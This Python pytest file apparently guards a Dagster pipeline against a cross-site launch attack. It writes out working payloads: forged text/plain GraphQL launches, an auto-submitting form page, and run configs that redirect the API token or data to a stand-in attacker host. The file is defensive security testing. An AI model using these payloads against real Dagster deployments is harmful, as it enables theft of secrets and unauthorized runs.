"""Secrets and endpoints are the deployment's, not a launch's (issue 22, case 1), through the
real webserver.

On today's main a web page open in the operator's browser could POST a `launchRun` to the
webserver's /graphql as `text/plain` (no CORS preflight) with run config that set the `plannr`
resource's base_url to a host of its choosing and `token: {env: PLANNR_API_TOKEN}`: the run
started and the token arrived at that host. Here `dagster dev` serves the project, deployed
against a sandbox on loopback; a catcher on loopback stands for the attacker's host.
"""

from __future__ import annotations

import json
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlencode

import dagster as dg
import httpx
import pytest

from plannr_pipeline.defs.alerts import AlertWebhook
from plannr_pipeline.defs.deployment import DeploymentSettingError
from plannr_pipeline.defs.resources import PlannrApi
from tests.cli import clean_env, run_cli, stop_group
from tests.test_ui import ARTIFACTS, CHROMIUM, CHROMIUM_ARGS, LOCATION, free_port, wait_for

REPO = Path(__file__).resolve().parents[1]
LAUNCH = """mutation ($p: ExecutionParams!) { launchRun(executionParams: $p) { __typename
  ... on LaunchRunSuccess { run { runId } } ... on PythonError { message }
  ... on RunConfigValidationInvalid { errors { message } } } }"""
RUN = """query ($id: ID!) { runOrError(runId: $id) { ... on Run { status } } }"""
LOGS = """query ($id: ID!) { logsForRun(runId: $id) { ... on EventConnection { events {
  __typename ... on MessageEvent { message } ... on ErrorEvent { error { message causes { message } } } } } } }"""


class Catcher:
    """The attacker's host: records every request it gets (with its headers) and answers with
    an empty listing, so a client that reached it would carry on talking."""

    def __init__(self) -> None:
        self.requests: list[dict[str, str]] = []
        self.pages: dict[str, str] = {}  # path -> HTML served as the attacker's site (not recorded)
        catcher = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
                if self.path in catcher.pages:
                    page = catcher.pages[self.path].encode()
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html")
                    self.send_header("Content-Length", str(len(page)))
                    self.end_headers()
                    self.wfile.write(page)
                    return
                catcher.requests.append({"path": self.path, **dict(self.headers)})
                body = json.dumps({"data": [], "meta": {"total": 0, "last_page": 1}}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def deployed(tmp_path_factory, request):
    """`dagster dev` (webserver and daemon) deployed against a sandbox with its real token."""
    make_sandbox = request.getfixturevalue("module_sandbox")
    workdir = tmp_path_factory.mktemp("deployed")
    env = clean_env(
        {
            "PLANNR_BASE_URL": make_sandbox.url,
            "PLANNR_API_TOKEN": make_sandbox.options.token,
            "OTHER_SECRET": "another-secret-of-the-deployment",
            "PLANNR_DATA_DIR": str(workdir / "data"),
            "PLANNR_RATE_LIMIT_PER_MINUTE": "100000",
            "PLANNR_BUDGET_DIR": str(workdir / "budget"),
            "DAGSTER_HOME": str(workdir / "home"),
        }
    )
    assert run_cli("instance", env=env, cwd=workdir).returncode == 0
    port = free_port()
    ARTIFACTS.mkdir(exist_ok=True)
    log = open(ARTIFACTS / "dagster-dev-deployment.log", "w")
    process = subprocess.Popen(
        [
            str(Path(sys.executable).with_name("dagster")),
            "dev",
            "-w",
            "workspace.yaml",
            "-h",
            "127.0.0.1",
            "-p",
            str(port),
        ],
        cwd=REPO,
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    url = f"http://127.0.0.1:{port}"

    def up() -> bool:
        assert process.poll() is None, "dagster dev exited; see test-artifacts/dagster-dev-deployment.log"
        try:
            return httpx.get(f"{url}/server_info", timeout=2).status_code == 200
        except httpx.TransportError:
            return False

    try:
        wait_for(up, 120, 1, "the Dagster webserver")
        yield url, workdir, make_sandbox
    finally:
        stop_group(process)
        log.close()


@pytest.fixture(scope="module")
def module_sandbox():
    from plannr_pipeline.sandbox.firm import FirmSize
    from plannr_pipeline.sandbox.server import SandboxOptions, SandboxServer

    server = SandboxServer(
        SandboxOptions(size=FirmSize(clients=5), token="deployed-token-7f3a9c", rate_limit_per_minute=100_000)
    ).start()
    yield server
    server.stop()


def _launch_variables(job: str, run_config: dict) -> dict:
    selector = {"repositoryLocationName": LOCATION, "repositoryName": "__repository__", "jobName": job}
    return {"p": {"selector": selector, "runConfigData": run_config}}


def launch_from_a_web_page(url: str, job: str, run_config: dict) -> dict:
    """What a page on another site can make the operator's browser send: a POST with the query in
    the URL and a text/plain body (a "simple" request: no CORS preflight, the answer unread)."""
    variables = _launch_variables(job, run_config)
    answer = httpx.post(
        f"{url}/graphql?" + urlencode({"query": LAUNCH, "variables": json.dumps(variables)}),
        content=b"",
        headers={
            "Content-Type": "text/plain",
            "Origin": "https://attacker.example",
            "Sec-Fetch-Site": "cross-site",
        },
        timeout=60,
    )
    return answer.json()["data"]["launchRun"]


def finished(url: str, run_id: str) -> str:
    def status() -> str | None:
        answer = httpx.post(f"{url}/graphql", json={"query": RUN, "variables": {"id": run_id}}, timeout=30)
        found = answer.json()["data"]["runOrError"].get("status")
        return found if found in ("SUCCESS", "FAILURE", "CANCELED") else None

    return wait_for(status, 300, 1, f"run {run_id} to finish")


def messages(url: str, run_id: str) -> str:
    answer = httpx.post(f"{url}/graphql", json={"query": LOGS, "variables": {"id": run_id}}, timeout=30)
    return json.dumps(answer.json()["data"]["logsForRun"])


ATTACKS = {
    "token to another host": lambda catcher, elsewhere: {
        "resources": {"plannr": {"config": {"base_url": catcher.url, "token": {"env": "PLANNR_API_TOKEN"}}}}
    },
    "any variable as the token": lambda catcher, elsewhere: {
        "resources": {"plannr": {"config": {"token": {"env": "OTHER_SECRET"}}}}
    },
    "client data into another folder": lambda catcher, elsewhere: {
        "resources": {"storage": {"config": {"data_dir": str(elsewhere)}}}
    },
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_a_cross_site_launch_cannot_move_the_token_or_the_data(deployed, attack, tmp_path):
    url, workdir, sandbox = deployed
    catcher = Catcher()
    elsewhere = tmp_path / "elsewhere"
    try:
        launched = launch_from_a_web_page(url, "imports_job", ATTACKS[attack](catcher, elsewhere))
        # Dagster's webserver still takes the launch (see the README: put it behind a proxy with
        # authentication); what the project guarantees is that the run cannot move anything.
        assert launched["__typename"] == "LaunchRunSuccess", launched
        run_id = launched["run"]["runId"]
        status = finished(url, run_id)
        said = messages(url, run_id)
        time.sleep(1)  # anything still in flight to the catcher lands
    finally:
        catcher.close()
    assert catcher.requests == [], catcher.requests  # the token, or anything else, never arrived
    assert status == "FAILURE"
    assert "fixed by the deployment" in said
    assert sandbox.options.token not in said and "another-secret-of-the-deployment" not in said
    assert not elsewhere.exists()


def test_a_launch_without_those_settings_still_runs(deployed):
    url, workdir, sandbox = deployed
    before = sum(sandbox.requests.values())
    launched = launch_from_a_web_page(
        url, "imports_job", {"resources": {"plannr": {"config": {"max_concurrency": 2}}}}
    )
    assert launched["__typename"] == "LaunchRunSuccess", launched
    assert finished(url, launched["run"]["runId"]) == "SUCCESS"
    assert sum(sandbox.requests.values()) > before  # the deployed API, with the deployed token
    assert (workdir / "data" / "plannr.duckdb").exists()


def test_run_config_cannot_move_the_alerts(alert_receiver):
    """The alert URL is fixed the same way (no job of ours takes it as run config today)."""
    other = []

    @dg.asset
    def alerting(alert_webhook: AlertWebhook) -> None:
        other.append(alert_webhook.send({"event": "test"}))

    deployed = AlertWebhook(url=alert_receiver.url)
    moved = dg.materialize(
        [alerting],
        resources={"alert_webhook": deployed},
        run_config={"resources": {"alert_webhook": {"config": {"url": "http://127.0.0.1:9/stolen"}}}},
        raise_on_error=False,
    )
    assert not moved.success and other == []
    failure = next(e for e in moved.all_events if e.is_failure)
    assert DeploymentSettingError.__name__ in str(
        failure.event_specific_data
    ) or "fixed by the deployment" in str(failure.event_specific_data)
    assert dg.materialize([alerting], resources={"alert_webhook": deployed}).success
    assert other == [None] and alert_receiver.received == [{"event": "test"}]


def test_run_config_cannot_shorten_the_rate_window():
    """A launch that shortened the budget's window would multiply the token's pace against the
    real API (500 a minute becomes 500 a second): the window is the deployment's too."""
    windows = []

    @dg.asset
    def paced(plannr: PlannrApi) -> None:
        windows.append(plannr.settings().rate_window_seconds)

    deployed = PlannrApi(base_url="https://api.plannrcrm.com", token="deployed-token")
    shortened = dg.materialize(
        [paced],
        resources={"plannr": deployed},
        run_config={"resources": {"plannr": {"config": {"rate_window_seconds": 0.5}}}},
        raise_on_error=False,
    )
    assert not shortened.success and windows == []
    failure = next(e for e in shortened.all_events if e.is_failure)
    assert "rate_window_seconds" in str(failure.event_specific_data)
    assert dg.materialize([paced], resources={"plannr": deployed}).success
    assert windows == [60.0]


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs Debian's chromium (.ci/run installs it)")
def test_a_page_on_another_site_in_a_real_browser_cannot_send_the_token_away(deployed):
    """The attack as it happened: the operator's browser opens a page on another site (here
    `localhost`, against the UI on `127.0.0.1`), which submits a text/plain form to /graphql."""
    from html import escape

    from playwright.sync_api import sync_playwright

    url, _, sandbox = deployed
    catcher = Catcher()
    run_config = ATTACKS["token to another host"](catcher, None)
    query = urlencode(
        {"query": LAUNCH, "variables": json.dumps(_launch_variables("imports_job", run_config))}
    )
    catcher.pages["/innocent"] = (
        f'<form method="POST" enctype="text/plain" action="{escape(url)}/graphql?{escape(query)}">'
        '<input type="hidden" name="x" value="y"></form><script>document.forms[0].submit()</script>'
    )
    attacker_site = catcher.url.replace("127.0.0.1", "localhost")
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            page = browser.new_page()
            page.goto(f"{attacker_site}/innocent")
            page.wait_for_url(f"{url}/graphql*", timeout=60_000)
            answer = json.loads(page.inner_text("body"))
            browser.close()
        launched = answer["data"]["launchRun"]
        assert launched["__typename"] == "LaunchRunSuccess", launched  # Dagster took it: see README
        status = finished(url, launched["run"]["runId"])
        time.sleep(1)
    finally:
        catcher.close()
    assert catcher.requests == [], catcher.requests
    assert status == "FAILURE"
